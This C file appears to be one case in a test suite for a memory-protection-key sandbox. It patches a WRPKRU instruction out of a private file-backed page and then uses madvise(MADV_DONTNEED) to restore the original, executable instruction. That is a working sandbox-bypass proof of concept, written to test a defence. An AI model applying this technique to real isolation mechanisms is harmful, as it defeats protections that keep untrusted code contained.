/* SPDX-License-Identifier: MIT */
/* atk_madvise_revert.c: start-up maps a file whose code contains a WRPKRU
 * and neutralises it in the private copy (as liberim's inspection patches
 * glibc's pkey_set); untrusted code then throws the patched page away with
 * madvise(MADV_DONTNEED), so the page is read from the file again and the
 * WRPKRU is back and executable. */
#define ATK_STARTUP startup_patch
#include <fcntl.h>

#include "atk_common.h"

static volatile uint8_t *code = MAP_FAILED;

static void startup_patch(void)
{
	static const uint8_t bytes[] = { 0x0f, 0x01, 0xef, 0xc3 };   /* wrpkru; ret */
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/tmp/atk_madvise_revert.%d", (int)getpid());
	fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || ftruncate(fd, 4096) != 0 || pwrite(fd, bytes, sizeof bytes, 0) != (ssize_t)sizeof bytes) {
		unlink(path);
		return;
	}
	close(fd);
	fd = open(path, O_RDONLY);
	code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	close(fd);
	unlink(path);
	if (code == MAP_FAILED || mprotect((void *)code, 4096, PROT_READ | PROT_WRITE) != 0)
		return;
	code[0] = code[1] = code[2] = 0xcc;   /* neutralised: int3 */
	mprotect((void *)code, 4096, PROT_READ | PROT_EXEC);
}

static enum atk_result atk_attack(void)
{
	if (code == MAP_FAILED || code[0] != 0xcc)
		return ATK_ERROR;
	if (madvise((void *)code, 4096, MADV_DONTNEED) != 0) {
		atk_say("madvise(MADV_DONTNEED) of patched code: %s", strerror(errno));
		return ATK_REFUSED;
	}
	if (code[0] == 0x0f && code[1] == 0x01 && code[2] == 0xef) {
		atk_say("the patched page came back from the file: WRPKRU is executable again");
		return ATK_SUCCEEDED;
	}
	atk_say("madvise accepted, but the page kept the patch");
	return ATK_REFUSED;
}

static const char *atk_name = "atk_madvise_revert";
static int atk_needs_pku = 0;
